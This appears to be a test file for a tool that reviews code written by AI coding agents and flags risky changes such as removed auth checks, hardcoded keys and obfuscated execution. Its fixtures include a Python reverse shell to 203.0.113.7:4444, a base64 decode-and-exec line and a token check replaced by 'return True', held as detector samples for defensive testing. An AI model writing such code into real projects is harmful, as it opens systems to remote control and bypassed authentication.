@@ -1,0 +1,123 @@
+"""Code an agent wrote: changes from each tool-call shape, commits and pushes, and the review's edge behaviour.
+
+Detection quality is measured on the labelled corpus (tests/test_code_corpus.py); these tests pin the
+mechanics: which tool arguments become which change, and the cases where context decides the verdict.
+"""
+
+from __future__ import annotations
+
+from foothold.detections.code_changes import changes_from_tool_call, git_events, parse_patch
+from foothold.detections.code_review import ToolCallRecord, build_change_set
+from foothold.detections.code_signals import review_changes
+
+
+def signals(changes) -> set[tuple[str, str]]:
+    return {(f.signal, f.severity) for f in review_changes(changes)}
+
+
+def test_write_edit_multiedit_and_str_replace_become_changes() -> None:
+    (write,) = changes_from_tool_call("Write", {"file_path": "/r/a.py", "content": "x = 1\ny = 2\n"}, call_id="c1")
+    assert write.added == ("x = 1", "y = 2") and write.removed == () and write.call_id == "c1"
+    (edit,) = changes_from_tool_call("Edit", '{"file_path": "/r/a.py", "old_string": "x = 1", "new_string": "x = 3"}')
+    assert edit.added == ("x = 3",) and edit.removed == ("x = 1",)
+    edits = [{"old_string": "a", "new_string": "b"}, {"old_string": "c\nd", "new_string": "c\ne"}]
+    (multi,) = changes_from_tool_call("MultiEdit", {"file_path": "/r/a.py", "edits": edits})
+    assert multi.added == ("b", "e") and multi.removed == ("a", "d")
+    args = {"command": "str_replace", "path": "/r/a.py", "old_str": "k = 0", "new_str": "k = 1"}
+    (editor,) = changes_from_tool_call("mcp__editor__str_replace_based_edit_tool", args)
+    assert editor.added == ("k = 1",) and editor.path == "/r/a.py"
+
+
+def test_a_second_whole_file_write_is_a_diff_against_the_first() -> None:
+    known: dict[str, str] = {}
+    changes_from_tool_call("Write", {"file_path": "m.py", "content": "a\nb\nc\n"}, known=known)
+    (second,) = changes_from_tool_call("Write", {"file_path": "m.py", "content": "a\nB\nc\n"}, known=known)
+    assert second.action == "modify" and second.added == ("B",) and second.removed == ("b",)
+
+
+def test_codex_patch_envelope_and_unified_diff() -> None:
+    codex = (
+        "*** Begin Patch\n*** Add File: src/new.py\n+print('hi')\n*** Update File: src/old.py\n@@\n-a = 1\n+a = 2\n"
+        "*** Delete File: src/gone.py\n*** End Patch\n"
+    )
+    assert [(c.path, c.action, c.added, c.removed) for c in parse_patch(codex)] == [
+        ("src/new.py", "create", ("print('hi')",), ()),
+        ("src/old.py", "modify", ("a = 2",), ("a = 1",)),
+        ("src/gone.py", "delete", (), ()),
+    ]
+    unified = "--- a/x.js\n+++ b/x.js\n@@ -1,2 +1,2 @@\n const a = 1;\n-run();\n+run(2);\n"
+    (change,) = changes_from_tool_call("apply_patch", {"input": unified})
+    assert (change.path, change.added, change.removed) == ("x.js", ("run(2);",), ("run();",))
+
+
+def test_commits_and_pushes_with_ids_from_the_output() -> None:
+    output = (
+        "[feat/x 9f8e7d6] add retry\n 1 file changed\nTo github.com:o/r.git\n   1111111..2222222  feat/x -> feat/x\n"
+    )
+    events = git_events("git add -A && git commit -m 'add retry' && git push origin feat/x", output, "c9")
+    assert [(e.kind, e.ref, e.detail, e.call_id) for e in events] == [
+        ("commit", "9f8e7d6", "add retry", "c9"),
+        ("push", "1111111..2222222", "feat/x -> feat/x", "c9"),
+    ]
+    assert [(e.kind, e.ref, e.detail) for e in git_events('git commit -am "wip"', None)] == [("commit", "", "wip")]
+    assert git_events("git status && git log", "") == []
+
+
+def test_an_auth_check_moved_to_another_file_is_not_removed() -> None:
+    removed = changes_from_tool_call(
+        "Edit",
+        {"file_path": "app/views.py", "old_string": "@login_required\ndef page(r):", "new_string": "def page(r):"},
+    )
+    moved = changes_from_tool_call(
+        "Edit",
+        {"file_path": "app/urls.py", "old_string": "path('p', page)", "new_string": "path('p', login_required(page))"},
+    )
+    assert ("auth_check_removed", "high") in signals(removed)
+    assert "auth_check_removed" not in {s for s, _ in signals(removed + moved)}
+
+
+def test_an_auth_function_that_now_returns_true_first() -> None:
+    old = "def verify_token(token):\n    return jwt.decode(token, KEY, algorithms=['HS256'])"
+    new = "def verify_token(token):\n    return True"
+    edit = changes_from_tool_call("Edit", {"file_path": "api/auth.py", "old_string": old, "new_string": new})
+    assert ("auth_short_circuit", "high") in signals(edit)
+
+
+def test_severity_drops_in_tests_except_for_code_that_runs_anyway() -> None:
+    key = "AKIA" + "Q3EGRIUTKZ7XLMNB"  # an access key id shape, split so no scanner takes this file for a leak
+    in_test = changes_from_tool_call("Write", {"file_path": "tests/test_s3.py", "content": f"KEY = '{key}'\n"})
+    in_src = changes_from_tool_call("Write", {"file_path": "src/s3.py", "content": f"KEY = '{key}'\n"})
+    assert ("hardcoded_credential", "low") in signals(in_test)
+    assert ("hardcoded_credential", "high") in signals(in_src)
+    shell = "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\npty.spawn('/bin/sh')\n"
+    in_test_shell = changes_from_tool_call("Write", {"file_path": "tests/test_net.py", "content": shell})
+    assert ("reverse_shell", "critical") in signals(in_test_shell)
+
+
+def test_a_redaction_marker_in_written_code_is_a_hardcoded_credential() -> None:
+    content = 'TOKEN = "[REDACTED:github_pat:fp=0123456789abcdef]"\n'
+    assert ("hardcoded_credential", "high") in signals(
+        changes_from_tool_call("Write", {"file_path": "deploy/ci.py", "content": content})
+    )
+
+
+def test_change_set_orders_the_riskiest_file_first_and_serialises() -> None:
+    calls = [
+        ToolCallRecord("Write", {"file_path": "README.md", "content": "# docs\n"}, call_id="a"),
+        ToolCallRecord(
+            "Write", {"file_path": "src/x.py", "content": "exec(__import__('base64').b64decode(P))\n"}, call_id="b"
+        ),
+        ToolCallRecord("Bash", {"command": "git commit -m 'x'"}, "[main abc1234] x", call_id="c"),
+    ]
+    change_set = build_change_set(calls)
+    assert [c.path for c in change_set.by_risk()] == ["src/x.py", "README.md"]
+    document = change_set.to_json()
+    assert document["findings"][0]["signal"] == "decode_exec" and document["findings"][0]["call_id"] == "b"
+    assert document["git"] == [{"kind": "commit", "ref": "abc1234", "detail": "x", "call_id": "c"}]
+
+
+def test_hostile_input_is_bounded_and_total() -> None:
+    lines = "a" * 1_000_000 + "\n" + "(" * 100_000 + "\n" + "\x00\x1b[2J" * 1000
+    changes = changes_from_tool_call("Write", {"file_path": "src/big.py", "content": lines})
+    assert isinstance(review_changes(changes), list)
+    assert changes_from_tool_call("Write", "{not json") == [] and changes_from_tool_call(None, None) == []  # type: ignore[arg-type]
